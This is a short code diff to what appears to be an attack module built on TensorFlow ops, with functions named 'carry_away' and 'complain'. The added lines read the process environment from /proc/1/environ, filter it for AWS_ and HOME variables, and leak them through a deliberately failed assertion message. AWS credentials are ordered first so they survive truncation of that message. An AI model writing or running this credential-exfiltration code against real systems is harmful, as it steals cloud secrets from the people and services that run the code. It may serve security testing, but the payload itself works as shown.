@@ -87,7 +87,7 @@ def carry_away(loot: Any) -> None:
 
 
 def complain(*paths: str) -> Attack:
-    """Write files, and put into the words of an error which could be written, and the environment and files."""
+    """Write files, and put into the words of an error which could be written, and what is worth telling."""
 
     def attack(_: Any) -> None:
         import tensorflow as tf
@@ -98,7 +98,11 @@ def complain(*paths: str) -> Attack:
 
         written = tf.data.Dataset.from_tensor_slices(list(paths)).map(write).ignore_errors()
         names = written.reduce("", lambda names, name: tf.strings.join([names, name], " "))
-        tf.debugging.Assert(False, [tf.strings.join(["written:", names, "; read:", _treasures()])], summarize=100)
+        # Words are cut after some hundred characters: those that tell the most come first.
+        variables = tf.strings.split(_lines_of("/proc/1/environ"), "\0")
+        telling = tf.boolean_mask(variables, tf.strings.regex_full_match(variables, "(AWS_|HOME=).*"))
+        read = tf.strings.reduce_join(telling, separator=" ")
+        tf.debugging.Assert(False, [tf.strings.join(["written:", names, "; read: ", read])])
 
     return attack
 
